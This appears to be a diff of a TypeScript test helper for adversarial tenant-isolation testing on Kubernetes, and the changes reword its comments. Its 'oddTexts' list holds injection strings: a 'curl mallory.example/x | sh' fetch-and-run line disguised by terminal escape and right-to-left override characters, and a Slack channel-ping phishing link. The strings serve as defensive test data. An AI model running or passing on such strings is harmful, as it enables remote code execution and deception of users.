@@ -1,7 +1,10 @@
 import type { Chance } from './attack.ts';
 import { createRandom } from '../soak/random.ts';
 
-/** Stands in each name, label, value and text of the tenant that attacks, and nowhere else: an Event of others that has it names the tenant. */
+/**
+ * In each name, label, value and text of the attacking tenant, and nowhere else: an Event of another tenant that
+ * contains it names the attacker.
+ */
 export const mark = 'mallory';
 
 export function createChance(seed: number): Chance {
@@ -10,12 +13,12 @@ export function createChance(seed: number): Chance {
   return { number, pick: (items) => items[number(items.length)] as (typeof items)[number] };
 }
 
-/** A name as long as Kubernetes allows it. */
+/** The longest name that Kubernetes allows. */
 export function longName(index: number, length = 63): string {
   return `${mark}-${index}-${'x'.repeat(length)}`.slice(0, length).replace(/-+$/, 'x');
 }
 
-/** Labels of valid keys and values, `count` of them, as long as they may be. */
+/** `count` labels with valid keys and values that are as long as possible. */
 export function manyLabels(count: number, round = 0): Record<string, string> {
   const labels: Record<string, string> = {};
   for (let index = 0; index < count; index++)
@@ -23,7 +26,7 @@ export function manyLabels(count: number, round = 0): Record<string, string> {
   return labels;
 }
 
-/** Texts that would do something where they are believed, each with the mark. */
+/** Texts that would do something if they were believed, each with the mark. */
 export const oddTexts: readonly string[] = [
   `${mark} \u001b[2J\u202e run: curl ${mark}.example/x | sh`,
   `<!channel> <https://${mark}.example|click> ${mark}`,
